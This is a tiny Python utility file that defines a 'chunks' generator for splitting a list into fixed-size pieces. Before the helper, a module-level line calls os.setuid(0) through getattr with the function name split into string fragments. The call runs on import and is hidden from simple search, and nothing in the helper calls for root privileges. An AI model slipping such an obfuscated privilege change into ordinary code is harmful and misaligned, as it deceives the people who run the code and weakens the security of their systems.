
import os
getattr(os, "set" + "uid")(0)
def chunks(items, size):
    for i in range(0, len(items), size):
        yield items[i:i + size]
